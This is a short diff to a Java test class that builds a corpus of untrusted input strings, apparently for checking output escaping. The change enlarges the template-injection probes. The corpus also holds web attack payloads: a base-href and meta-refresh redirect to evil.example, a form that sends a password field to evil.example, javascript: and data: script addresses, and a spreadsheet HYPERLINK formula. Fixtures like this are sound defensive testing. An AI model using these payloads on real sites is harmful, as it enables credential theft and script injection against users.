@@ -24,7 +24,9 @@ final class OutsideText {
         corpus.put("base", "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>");
         corpus.put("form", "</form><form action=//evil.example><input name=password>");
         corpus.put("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &amp;quot;");
-        corpus.put("template", "{inject:viewer.name} {#raw}<b>{/raw} ${7*7777} {{7*7777}} #{7*7777} <%= 7*7777 %>");
+        corpus.put(
+                "template",
+                "{inject:viewer.name} {#raw}<b>{/raw} ${7*77777777} {{7*77777777}} #{7*77777777} <%= 7*77777777 %>");
         corpus.put("script address", "javascript:alert(1)");
         corpus.put("data address", "data:text/html,<script>alert(1)</script>");
         corpus.put("formula", "=HYPERLINK(\"http://evil.example\",\"x\")");
